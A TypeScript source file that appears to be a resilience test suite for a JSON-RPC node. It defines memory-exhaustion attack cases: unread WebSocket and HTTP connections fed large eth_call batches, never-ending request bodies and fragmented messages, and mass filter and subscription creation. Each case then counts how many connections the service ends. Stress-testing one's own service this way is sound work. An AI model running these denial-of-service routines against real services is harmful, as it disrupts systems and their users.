/** Clients that make the service hold what they do not take. */
import type { Socket } from 'node:net';
import type { AttackCase } from '../attackCase.js';
import { call, frame, open, openWebSocket, pause, post, tally } from '../clients.js';
import { contractsOf } from '../contracts.js';
import type { Target } from '../target.js';

const TEXT = 0x81;
const HOLD_MS = 8_000;

async function batchOfLargeCalls(target: Target, calls: number): Promise<string> {
  const { largeAnswer } = await contractsOf(target);
  return `[${Array(calls)
    .fill(call('eth_call', { to: largeAnswer }, 'latest'))
    .join(',')}]`;
}

/** Holds the connections for some seconds, then leaves. Counts those that the service has ended. */
async function hold(sockets: readonly Socket[]): Promise<string> {
  await pause(HOLD_MS);
  const ended = sockets.filter((socket) => socket.destroyed || socket.readableEnded || socket.closed).length;
  for (const socket of sockets) socket.destroy();
  return `${ended} of ${sockets.length} connections were ended`;
}

async function webSocketsThatDoNotRead(target: Target, count: number): Promise<string> {
  const body = await batchOfLargeCalls(target, 60);
  const sockets: Socket[] = [];
  for (let i = 0; i < count; i++) {
    const socket = await openWebSocket(target);
    for (let batch = 0; batch < 32; batch++) socket.write(frame(TEXT, body));
    sockets.push(socket);
  }
  return hold(sockets);
}

export const memoryCases: AttackCase[] = [
  {
    name: 'ws-unread',
    what: 'one WebSocket that does not read, 32 batches of 60 calls that return 3.5 MB',
    attack: (target) => webSocketsThatDoNotRead(target, 1),
  },
  {
    name: 'ws-unread-4',
    what: 'four of them',
    attack: (target) => webSocketsThatDoNotRead(target, 4),
  },
  {
    name: 'http-unread',
    what: '40 HTTP connections that do not read, a batch of 30 such calls each',
    async attack(target) {
      const body = await batchOfLargeCalls(target, 30);
      const head = `POST / HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n`;
      const sockets = await Promise.all(Array.from({ length: 40 }, () => open(target)));
      for (const socket of sockets) {
        socket.pause();
        socket.write(head + body);
      }
      return hold(sockets);
    },
  },
  {
    name: 'unfinished-bodies',
    what: '120 HTTP bodies of 5.2 MB that do not end',
    async attack(target) {
      const part = Buffer.alloc(5_100_000, 0x20);
      const head =
        'POST / HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 5200000\r\n\r\n';
      const sockets = await Promise.all(Array.from({ length: 120 }, () => open(target)));
      for (const socket of sockets) {
        socket.resume();
        socket.write(head);
        socket.write(part);
      }
      return hold(sockets);
    },
  },
  {
    name: 'unfinished-messages',
    what: '120 WebSocket messages of 5 MB in fragments that do not end',
    async attack(target) {
      const part = Buffer.alloc(500_000, 0x20);
      const sockets = await Promise.all(Array.from({ length: 120 }, () => openWebSocket(target)));
      for (const socket of sockets) {
        socket.resume();
        socket.write(frame(0x01, part));
        for (let i = 0; i < 9; i++) socket.write(frame(0x00, part));
      }
      return hold(sockets);
    },
  },
  {
    name: 'filters',
    what: '5,000 filters of one client',
    async attack(target) {
      const one = call('eth_newFilter', {
        topics: [Array.from({ length: 100 }, (_, i) => `0x${i.toString(16).padStart(64, '0')}`)],
      });
      const answers: string[] = [];
      for (let i = 0; i < 5; i++) {
        const answer = await post(target, `[${Array(1_000).fill(one).join(',')}]`);
        answers.push(`${answer.split('"result"').length - 1} made, ${answer.split('"error"').length - 1} refused`);
      }
      return tally(answers);
    },
  },
  {
    name: 'subscriptions',
    what: '2,000 subscriptions to logs on each of 10 WebSockets that do not read',
    async attack(target) {
      const one = call('eth_subscribe', 'logs', {});
      const sockets = await Promise.all(Array.from({ length: 10 }, () => openWebSocket(target)));
      for (const socket of sockets) socket.write(frame(TEXT, `[${Array(1_000).fill(one).join(',')}]`));
      return hold(sockets);
    },
  },
];
